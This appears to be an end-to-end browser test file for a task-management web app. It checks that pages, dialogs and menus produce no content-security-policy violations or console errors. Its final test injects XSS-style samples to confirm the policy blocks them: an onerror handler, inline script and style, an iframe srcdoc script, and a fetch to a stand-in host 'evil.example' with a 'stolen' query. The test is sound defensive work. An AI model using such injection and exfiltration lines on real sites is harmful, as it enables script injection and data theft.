import { routerPaths } from '@tandem/server/testing';
import type { BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { startWebStack, type WebStack, type Window } from './support/web-stack.ts';

/** A real browser says nothing against any page: no violation of the content security policy, no error in the console. */

let web: WebStack;
let window: Window;
let page: Page;
let taskId: string;
let said: string[];

beforeAll(async () => {
  web = await startWebStack({ worker: false });
  const { mara } = web;
  await mara.call('PUT', '/api/v1/sync/settings', { mode: 'on' });
  const dueDate = new Intl.DateTimeFormat('sv-SE').format(new Date());
  const own = await mara.call<{ id: string }>('POST', '/api/v1/tasks', {
    name: 'Walk the warehouse',
    dueDate,
    details: 'Hall 2 first',
  });
  taskId = own.id;
  await mara.call('POST', '/api/v1/tokens', { name: 'Nightly report' });
});
afterAll(() => web?.close());
afterEach(() => window?.context.close());

async function open(language = 'en'): Promise<void> {
  window = await web.window();
  page = window.app.page;
  await window.context.addInitScript(
    (chosen) => localStorage.setItem('tandem-language', chosen),
    language,
  );
  said = await listen(window.context, page);
}

/** What the browser has against the pages that follow. */
async function listen(context: BrowserContext, on: Page): Promise<string[]> {
  const heard: string[] = [];
  await context.exposeFunction('tellViolation', (text: string) => heard.push(`policy: ${text}`));
  await context.addInitScript(() => {
    const { tellViolation } = globalThis as unknown as { tellViolation(text: string): void };
    document.addEventListener('securitypolicyviolation', (event) =>
      tellViolation(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`),
    );
  });
  on.on('pageerror', (error) => heard.push(`uncaught: ${error.message}`));
  on.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) heard.push(`console: ${message.text()}`);
  });
  return heard;
}

/** Escape is heard where the keyboard is, and what opens takes the keyboard a moment after it is drawn. */
async function leave(opened: Locator): Promise<void> {
  await opened.locator(':focus').waitFor({ state: 'attached' });
  await page.keyboard.press('Escape');
  await opened.waitFor({ state: 'detached' });
}

/** Where nobody is signed in, the browser itself notes that the API says so. */
const isDoor = (text: string) => /^console: Failed to load resource: .* 401 /.test(text);

it.each(['en', 'zh-CN'])('B12.6 every page of the router, signed in, in %s', async (language) => {
  await open(language);
  for (const path of routerPaths(taskId)) {
    await window.app.open(path);
    await page.locator('main h1, main h2, main form').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect.soft(said.splice(0), path).toEqual([]);
  }
});

it('B12.6 every page of the router, before the door', async () => {
  await open();
  await window.context.clearCookies();
  for (const path of routerPaths(taskId)) {
    await window.app.open(path);
    await page.locator('main h1, main form, form').first().waitFor();
    await page.waitForLoadState('networkidle');
    const rest = said.splice(0).filter((text) => !isDoor(text));
    expect.soft(rest, path).toEqual([]);
  }
  await window.app.open('/unsubscribe?t=bad');
  await page.getByRole('status').waitFor();
  const background = () => page.evaluate(() => getComputedStyle(document.body).marginTop);
  // Its one style is taken by its hash.
  expect(await background()).toBe('0px');
  expect(said.filter((text) => !/ 400 /.test(text))).toEqual([]);
});

it('B12.6 whatever opens over the list: composer, dates, menus, columns, palette, help, panel', async () => {
  await open();
  const { app } = window;
  const row = page.locator('[role=row][aria-selected]').first();
  const [dialog, menu] = [page.getByRole('dialog'), page.getByRole('menu')];
  await app.open('/');
  await row.waitFor();
  await page.keyboard.press('c');
  await page.getByLabel('Name of the new task').fill('Added under the policy');
  await page.keyboard.press('Enter');
  await app.row('Added under the policy').waitFor();
  await page.keyboard.press('Escape');
  await row.focus();
  await page.keyboard.press('d');
  await page.locator('[data-date]').first().waitFor();
  await leave(dialog);
  await page.getByRole('button', { name: 'Columns' }).click();
  await dialog.getByRole('checkbox').nth(2).waitFor();
  await leave(dialog);
  await page.getByRole('button', { name: 'Filter' }).first().click();
  await page.getByRole('menuitem').first().waitFor();
  await leave(menu);
  await page.getByRole('button', { name: 'Account' }).click();
  await page.getByRole('menuitem').first().waitFor();
  await leave(menu);
  await row.focus();
  await page.keyboard.press('?');
  await dialog.waitFor();
  // The scroll lock's style element carries the nonce: without it the page behind would scroll.
  const overflow = () => page.evaluate(() => getComputedStyle(document.body).overflowY);
  await expect.poll(overflow).toBe('hidden');
  await leave(dialog);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').fill('d');
  await page.getByRole('option').first().waitFor();
  await page.keyboard.press('Escape');
  await app.open(`/?task=${taskId}`);
  await page.getByRole('complementary', { name: 'Task' }).getByLabel('Details').waitFor();
  await app.open('/?view=range&from=2026-11-20&to=2026-11-24');
  await page.locator('[type=date]').first().waitFor();
  expect(said).toEqual([]);
});

it('B12.6 dialogs of the settings, and the other colour scheme', async () => {
  await open();
  const { app } = window;
  const dialog = page.getByRole('dialog');
  await app.open('/settings/programs');
  await page.getByRole('button', { name: 'Revoke the token “Nightly report”' }).click();
  await leave(dialog);
  await app.open('/settings/salesforce');
  await page.getByRole('button', { name: 'Disconnect' }).click();
  await leave(dialog);
  await app.open('/');
  await page.getByRole('button', { name: 'Account' }).click();
  await page.getByText('Dark', { exact: true }).click();
  await page.locator('html[data-mantine-color-scheme=dark]').waitFor();
  expect(said).toEqual([]);
});

it('B12.6 what somebody smuggles into a page does not run, load, look or leave', async () => {
  await open();
  await window.app.open('/');
  await page.locator('[role=row][aria-selected]').first().waitFor();
  const ran = await page.evaluate(async () => {
    const traces = globalThis as unknown as { ran?: string[] };
    traces.ran = [];
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    add('<img src="/nowhere.svg" onerror="ran.push(\'handler\')">');
    add('<p id="smuggled" style="color: rgb(1, 2, 3)">x</p><style>#smuggled{top:7px}</style>');
    add('<iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>');
    const script = document.createElement('script');
    script.textContent = "ran.push('inline')";
    document.body.append(script);
    const timer = new Promise((done) => setTimeout(done, 0));
    await fetch('https://evil.example/?stolen').then(
      () => traces.ran?.push('fetch'),
      () => undefined,
    );
    await timer;
    const smuggled = document.querySelector('#smuggled');
    const { color, top } = getComputedStyle(smuggled as Element);
    return { traces: traces.ran, color, top };
  });
  expect(ran.traces).toEqual([]);
  expect(ran.color).not.toBe('rgb(1, 2, 3)');
  expect(ran.top).toBe('auto');
  await expect
    .poll(() => said.filter((text) => text.startsWith('policy:')).map((text) => text.split(' ')[1]))
    .toEqual(
      expect.arrayContaining([
        'style-src-attr',
        'style-src-elem',
        'script-src-elem',
        'script-src-attr',
        'connect-src',
      ]),
    );
});
